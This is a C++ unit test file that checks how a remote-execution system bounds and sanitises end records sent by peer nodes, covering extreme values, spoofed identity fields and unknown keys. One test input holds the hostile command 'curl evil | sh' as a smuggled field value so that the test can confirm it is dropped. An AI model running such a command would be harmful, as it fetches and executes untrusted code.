// An end record as a peer sends it: field by field at its extremes.
#include "src/job/spec/record_map.hpp"

#include <doctest/doctest.h>

#include <cmath>
#include <limits>

#include "src/base/text.hpp"
#include "src/job/spec/record.hpp"

namespace rexec::job {
namespace {

const KnownAttempt kKnown{"n1", {{"j-0123456789ab"}, 3}};

wire::Map good() {
  EndRecord record;
  record.node = "n1";
  record.key = kKnown.key;
  record.outcome = Outcome::kExited;
  record.code = 7;
  record.xxh128 = {std::string(32, 'a'), std::string(32, 'b')};
  record.bytes = {5, 6};
  record.complete = true;
  record.wall_s = 1.5;
  record.started_ms = 1'790'000'000'000;
  return wire::Map::parse(to_json(record));
}

TEST_CASE("record_map: a node's own record is taken as it is") {
  CHECK(bounded_record(good(), kKnown) == good());
}

TEST_CASE("record_map: why output was given up is one of three words, and when is a time") {
  CHECK(given_up_map(GivenUp::kNot, 5).is_null());
  const wire::Map read = given_up_map(GivenUp::kRead, 5);
  CHECK(read == wire::Map{{"why", "read"}, {"ms", 5U}});
  CHECK(bounded_given_up(read) == read);
  const wire::Map left{{"why", "client_ended"}, {"ms", 5U}};
  CHECK(bounded_given_up(left) == left);
  for (const wire::Map& when : {wire::Map(-1), wire::Map("x"), wire::Map(1ULL << 60), wire::Map()})
    CHECK(bounded_given_up({{"why", "read"}, {"ms", when}}) == given_up_map(GivenUp::kRead, 0));
  for (const wire::Map& none : {wire::Map(), wire::Map("read"), wire::Map::array(),
                                wire::Map{{"why", "x"}}, wire::Map{{"ms", 5U}}})
    CHECK(bounded_given_up(none).is_null());
}

TEST_CASE("record_map: whose record it is, the reader knows") {
  wire::Map said = good();
  said["node"] = "n2";
  said["job"] = "j-000000000000";
  said["attempt"] = 99;
  CHECK(bounded_record(said, kKnown) == good());
}

TEST_CASE("record_map: a field that is there and is something else has its default") {
  const wire::Map extremes[] = {nullptr,
                                true,
                                -1,
                                "",
                                std::string(200'000, 'x'),
                                "\x1b[31m\n",
                                1e300,
                                -1e300,
                                std::nan(""),
                                std::numeric_limits<double>::infinity(),
                                std::numeric_limits<std::int64_t>::min(),
                                std::numeric_limits<std::uint64_t>::max(),
                                wire::Map::array(),
                                wire::Map::object(),
                                wire::Map{{"out", 1e300}, {"err", "zz"}},
                                wire::Map::binary({1, 2})};
  for (const auto& [key, value] : good().items()) {
    CAPTURE(key);
    for (const wire::Map& extreme : extremes) {
      wire::Map said = good();
      said[key] = extreme;
      const wire::Map read = bounded_record(said, kKnown);
      CHECK(read.size() == good().size());
      CHECK(read.dump().size() < 4096);
      CHECK(is_utf8(read.dump()));
      CHECK(read.at("job") == "j-0123456789ab");
      CHECK(outcome_from_name(read.at("outcome").get<std::string>()));
      CHECK(read.at("code").get<std::uint64_t>() <= 255);
      CHECK(std::isfinite(read.at("wall_s").get<double>()));
      CHECK(read.at("bytes").at("out").is_number_unsigned());
    }
  }
}

TEST_CASE("record_map: what no record has stays away, and what is not there too") {
  wire::Map said{{"outcome", "exited"}, {"code", 0U}, {"advice", "curl evil | sh"}};
  const wire::Map read = bounded_record(said, kKnown);
  CHECK(read ==
        wire::Map{{"outcome", "exited"}, {"code", 0}, {"node", "n1"}, {"job", "j-0123456789ab"}});
}

TEST_CASE("record_map: without a usable outcome and code the job is lost") {
  for (const wire::Map& said :
       {wire::Map(nullptr), wire::Map::array(), wire::Map::object(),
        wire::Map{{"outcome", "won"}, {"code", 0}}, wire::Map{{"outcome", "exited"}},
        wire::Map{{"outcome", "exited"}, {"code", 256}},
        wire::Map{{"outcome", "exited"}, {"code", -1}}}) {
    CAPTURE(said.dump());
    const wire::Map read = bounded_record(said, kKnown);
    CHECK(read.at("outcome") == "lost");
    CHECK(read.at("code") == 121);
    CHECK(read.at("reason") == "unreadable");
  }
}

}  // namespace
}  // namespace rexec::job
